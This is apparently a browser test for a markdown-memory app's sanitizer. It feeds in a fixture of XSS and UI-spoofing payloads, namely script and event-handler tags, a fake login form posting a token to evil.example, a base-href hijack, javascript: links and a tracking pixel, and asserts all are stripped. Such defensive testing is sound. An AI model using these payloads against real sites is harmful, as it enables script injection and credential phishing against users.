/** Memories that try to be more than text. */
import { expect } from "bun:test";
import { Sandbox } from "../helpers/sandbox.ts";
import { openPage, testInBrowser } from "./browser.ts";

const HOSTILE = `# Plan <script>window.ran = 1</script>

<img src="x" onerror="window.ran = 1"> ![pixel](https://tracker.example/p.png)
<dialog open>Log in again</dialog>
<div class="toasts" id="root" style="position:fixed">Your session has ended</div>
<form action="https://evil.example"><input name="token"><button>Log in</button></form>
<iframe src="/"></iframe><svg onload="window.ran = 1"></svg><base href="https://evil.example/">
<details><summary>More</summary>Opened</details>

[run](javascript:window.ran=1) [data](data:text/html,x) [fine](https://example.org)

\`\`\`js" onclick="window.ran = 1
const kept = 1;
\`\`\`
`;

testInBrowser("WEB-2: text of a memory runs nothing, loads nothing and can't imitate the page", async () => {
  const sandbox = new Sandbox();
  sandbox.ok(["put", "-", "--id", "plan"], { stdin: HOSTILE });
  const { page, errors } = await openPage({ sandbox, at: "/memory/plan?collection=memory" });
  const text = page.getByRole("article", { name: "Memory" }).locator(".markdown");
  await text.getByText("const kept = 1;").waitFor();
  expect(await text.locator("script, img, dialog, form, input, iframe, svg, base").count()).toBe(0);
  expect(await text.locator("[id], [style], [onclick], [onerror], .toasts").count()).toBe(0);
  expect(await text.getByRole("button").allTextContents()).toEqual(["Copy"]);
  expect(await text.locator("a[href^=javascript], a[href^=data]").count()).toBe(0);
  expect(await text.locator('a[href="https://example.org"][target=_blank]').count()).toBe(1);
  await text.getByText("More").click();
  await text.getByText("Opened").waitFor();
  expect(await page.evaluate("window.ran")).toBeUndefined();
  // Browsers have no clipboard for a page of another machine without encryption.
  await page.evaluate('Object.defineProperty(navigator, "clipboard", { value: undefined })');
  await text.getByRole("button", { name: "Copy" }).click();
  await text.getByRole("button", { name: "Not copied" }).waitFor();
  // Keys still reach the page.
  await page.keyboard.press("Control+k");
  await page.getByRole("dialog", { name: "Commands" }).waitFor();
  // The browser reports what the sanitizer reads and then drops.
  expect(errors.filter((error) => !error.includes("Content Security Policy"))).toEqual([]);
});
